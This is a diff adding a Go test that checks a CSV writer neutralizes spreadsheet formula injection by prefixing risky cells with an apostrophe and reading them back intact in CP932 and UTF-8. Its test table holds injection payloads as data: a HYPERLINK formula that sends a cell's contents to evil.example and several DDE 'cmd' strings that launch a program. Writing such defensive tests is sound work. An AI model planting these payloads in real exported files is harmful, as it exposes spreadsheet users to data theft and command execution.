@@ -483,3 +483,58 @@ func TestStreamDetectionAcrossChunks(t *testing.T) {
 		t.Fatalf("last row %q, want 山田", last)
 	}
 }
+
+// Cells a spreadsheet would run as formulas are written as text, in every encoding, and read
+// back as they were.
+func TestFormulaInjectionNeutralized(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, out string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
+		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
+		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"-500", "-500"},
+		{"+3.5", "+3.5"},
+		{"-", "'-"},
+		{"山田 =太郎", "山田 =太郎"},
+		{"", ""},
+		{"'=already", "'=already"},
+	}
+	for _, tt := range tests {
+		if got := Neutralize(tt.in); got != tt.out {
+			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.out)
+		}
+	}
+	for _, enc := range []Encoding{CP932, UTF8} {
+		var buf bytes.Buffer
+		var rows [][]string
+		for _, tt := range tests {
+			rows = append(rows, []string{tt.in})
+		}
+		if err := WriteAll(&buf, enc, []string{"氏名"}, rows); err != nil {
+			t.Fatal(err)
+		}
+		r, err := NewReader(&buf)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, tt := range tests {
+			if tt.in == "" {
+				continue // blank rows are skipped on reading
+			}
+			rec, err := r.Read()
+			if err != nil {
+				t.Fatalf("%v row %d: %v", enc, i, err)
+			}
+			want := tt.in
+			if tt.in == "'=already" {
+				want = "=already" // an apostrophe before a formula character is ours to strip
+			}
+			if got := rec.Get("氏名"); got != want {
+				t.Errorf("%v: read back %q, want %q", enc, got, want)
+			}
+		}
+	}
+}
